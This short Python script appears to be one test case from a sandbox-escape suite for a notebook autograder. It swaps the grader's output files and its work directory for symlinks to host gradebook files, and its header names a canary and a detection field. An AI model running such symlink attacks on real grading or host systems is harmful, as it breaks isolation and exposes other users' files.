# DESC: replaces files of its working directory by links to files of the host, for the grader to follow
# SUCCESS: a canary
# DETECT: canary
# KIND: cell
# WALLS: namespaces process
import os

for name in ("hostile.ipynb", "results.json", "lab_data.py", "output.txt", "feedback.html"):
    try:
        os.path.lexists(name) and os.unlink(name)
        os.symlink(COURSE + "/gradebook/notes.txt", name)
        seek(open(name).read(), name)
    except OSError:
        pass
os.chdir("/")
try:
    os.rename("/tmp/work", "/tmp/other")
    os.symlink(COURSE, "/tmp/work")
except OSError as error:
    print(error)
